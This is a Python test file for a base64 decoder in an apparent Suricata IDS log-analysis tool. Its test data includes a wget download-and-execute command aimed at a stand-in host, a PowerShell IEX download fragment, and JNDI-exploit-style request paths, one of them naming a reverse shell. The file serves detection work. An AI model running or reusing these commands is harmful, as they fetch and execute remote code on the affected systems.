"""Base64 is found and decoded in any variant, and words are not taken for it."""

from __future__ import annotations

import base64
import hashlib
import time
from typing import Any

import pytest

from suricata_eve.analysis.base64text import (
    decode_base64,
    decode_text,
    encoded_path,
    find_base64,
)

COMMAND = "wget http://192.0.2.66/x?a=1>/tmp/x;sh /tmp/x"


def encode(text: str, charset: str = "utf-8") -> str:
    return base64.b64encode(text.encode(charset)).decode()


@pytest.mark.parametrize("command", [COMMAND, COMMAND + "!", COMMAND + "?>", "curl 192.0.2.6/~~~"])
@pytest.mark.parametrize(("before", "after"), [("", ""), ("/go/", "/x"), ("u=", "&b"), ("a-", " ")])
def test_every_variant_is_found_whole(command: str, before: str, after: str) -> None:
    standard = encode(command)
    urlsafe = base64.urlsafe_b64encode(command.encode()).decode()
    for variant in {standard, standard.rstrip("="), urlsafe, urlsafe.rstrip("=")}:
        (found,) = find_base64(f"{before}{variant}{after}".encode())

        assert found.text is not None
        assert found.text.startswith(command)  # a path behind it may decode too
        if after != "/x" or variant.endswith("="):
            assert (found.encoded, found.data) == (variant, command.encode())
            assert found.start == len(before)
            assert found.end == len(before) + len(variant)


@pytest.mark.parametrize("length", range(17, 60))
def test_base64_that_is_cut_short_gives_what_is_left(length: int) -> None:
    (found,) = find_base64(encode(COMMAND)[:length].encode())

    assert found.text == COMMAND[: length * 3 // 4]
    assert found.encoding == {
        0: "base64 utf-8",
        1: "base64 cut utf-8",
    }.get(length % 4, "base64 unpadded utf-8")


@pytest.mark.parametrize(
    ("command", "charset"),
    [
        (COMMAND, "utf-8"),
        ("IEX (New-Object Net.WebClient)", "utf-16le"),
        ("echo d\u00e9j\u00e0 vu > /tmp/caf\u00e9", "latin-1"),
        ("echo d\u00e9j\u00e0 vu > /tmp/caf\u00e9", "utf-8"),
    ],
)
def test_charsets_are_told_apart(command: str, charset: str) -> None:
    (found,) = find_base64(f"q={encode(command, charset)}&".encode())

    assert (found.text, found.encoding.split()[-1]) == (command, charset)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "aWQ=",
        "d41d8cd98f00b204e9800998ecf8427e",
        "da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "AdministrationConsoleServerConfigurationPage1",
        "A" * 400,
        "/wp-content/plugins/some-long-name/assets/javascript/controllers/index.js",
        "550e8400-e29b-41d4-a716-446655440000",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
        "iVBORw0KGgoAAAANSUhEUgAAADAAAAAgCAAAAABxv6TAAAADeklEQVR4nB1UCREDMQhEQiQg",
    ],
)
def test_words_hashes_and_bytes_are_not_text_in_base64(text: str) -> None:
    assert find_base64(text.encode()) == []


NOISE = hashlib.sha512(b"noise").digest()
RUSSIAN = "\u043f\u0440\u0438\u0432\u0435\u0442, \u043c\u0438\u0440!"


@pytest.mark.parametrize(
    ("data", "text"),
    [
        (NOISE, None),
        (b"\x89PNG\r\n\x1a\n" + bytes(40), None),
        (RUSSIAN.encode(), RUSSIAN),
    ],
)
def test_bytes_and_other_scripts_are_found_on_request(data: bytes, text: str | None) -> None:
    line = b"img?src=" + base64.b64encode(data) + b"&x"

    (found,) = find_base64(line, binary=True)
    assert (found.data, found.text) == (data, text)
    assert find_base64(line) == []


def test_text_inside_bytes_is_found_alone_and_with_the_bytes() -> None:
    text = b"this is the text inside of some bytes"
    data = NOISE[:63] + text + NOISE

    whole, inside = find_base64(base64.b64encode(data), binary=True)
    assert whole.data == data
    assert inside.data in text
    assert find_base64(base64.b64encode(data)) == [inside]


@pytest.mark.parametrize(
    "text",
    [b"/" + b"0123456789abcdef" * 4, b"/Users/Name1/Library/Caches2/Com/Example/App/Data/Store3"],
)
def test_hashes_and_paths_are_not_bytes_in_base64(text: bytes) -> None:
    assert find_base64(text, binary=True) == []


@pytest.mark.parametrize(
    ("encoded", "data"),
    [
        (b"aWQ=", b"id"),
        (b"aWQ", b"id"),
        (b"aWQ==", b"id"),
        (b"aWRpZ", b"idi"),
        (b"-_-_", b"\xfb\xff\xbf"),
        (b"+/+/", b"\xfb\xff\xbf"),
        (b"+_+_", None),
        (b"a", None),
        (b"", None),
        (b"a*b*", None),
        (b"aW Q=", None),
    ],
)
def test_decode_base64_is_lenient_with_padding_alone(encoded: bytes, data: bytes | None) -> None:
    assert decode_base64(encoded) == data


@pytest.mark.parametrize(
    ("data", "text"),
    [
        (b"", None),
        (b"\0", None),
        (b"id\n", ("id\n", "utf-8")),
        (b"id\0\0", ("id", "utf-8")),
        ("caf\u00e9".encode()[:-1], ("caf", "utf-8")),
        ("ab".encode("utf-16le"), ("ab", "utf-16le")),
        ("abc".encode("utf-16le")[:-1], ("ab", "utf-16le")),
        (b"na\xefve caf\xe9", ("na\u00efve caf\u00e9", "latin-1")),
        (b"\xff\xfe\xfd", None),
        (b"\x80abcdefghijkl", None),
        (b"a\x01b", None),
    ],
)
def test_decode_text_refuses_what_is_no_text(data: bytes, text: tuple[str, str] | None) -> None:
    assert decode_text(data) == text


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("Basic/Command/Base64/aWQ=", "id"),
        ("TomcatBypass/Command/base64/aWQ", "id"),
        ("Basic/Command/Base64/aWQ=?x=1", "id"),
        ("Deserialization/CommonsCollections5/Command/Base64/" + encode(COMMAND), COMMAND),
        ("Basic/Command/Base64/not*base64*at*all", None),
        ("Basic/Command/Base64/A", None),
        ("Basic/Command/Base64/", None),
        ("Basic/Command/Base64/index.html", None),
        ("Basic/ReverseShell/192.0.2.1/9001", None),
        ("Base64/\u00e9", None),
        ("Exploit", None),
    ],
)
def test_a_path_that_says_base64_is_decoded(path: str, text: str | None) -> None:
    found = encoded_path(path)

    assert (found.text if found else None) == text


def test_a_path_says_where_it_was_cut() -> None:
    found = encoded_path("Base64/" + encode(COMMAND)[:36], cut=True)

    assert found is not None
    assert (found.text, found.encoding) == (COMMAND[:27], "base64 cut utf-8")


def test_bytes_in_a_path_are_kept_as_bytes() -> None:
    data = b"\xac\xed\x00\x05sr\x00\x11java.util"
    found = encoded_path("Base64/" + base64.b64encode(data).decode())

    assert found is not None
    assert (found.data, found.text, found.encoding) == (data, None, "base64")


def test_the_payloads_of_the_truth_decode(truth: dict[str, Any]) -> None:
    for payload in truth["payloads"].values():
        found = encoded_path("Basic/Command/Base64/" + payload["encoded"])

        assert found is not None
        assert (found.text, found.encoded) == (payload["decoded"], payload["encoded"])
        assert found.encoding.split()[-1] == payload["charset"]


MEGABYTE = 1_000_000
HOSTILE = {
    "letters": b"a" * MEGABYTE,
    "zeros": b"A" * MEGABYTE,
    "delimiters": b"/aGk" * (MEGABYTE // 4),
    "one": base64.b64encode(b"curl http://x;" * (MEGABYTE // 19)),
    "wide": base64.b64encode(("iex " * (MEGABYTE // 12)).encode("utf-16le")),
    "many": b"d2dldCBodHRwOi8v/" * (MEGABYTE // 17),
    "nearly": b"d2dldCBodHRw\xff" * (MEGABYTE // 13),
    "good and bad": b"d2dldCBodHRwOi8v////" * (MEGABYTE // 20),
    "padding": b"=" * MEGABYTE,
}


@pytest.mark.parametrize("binary", [False, True])
@pytest.mark.parametrize("data", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_megabyte_of_hostile_text_ends_at_once(data: bytes, *, binary: bool) -> None:
    start = time.perf_counter()
    find_base64(data, binary=binary)

    assert time.perf_counter() - start < 8
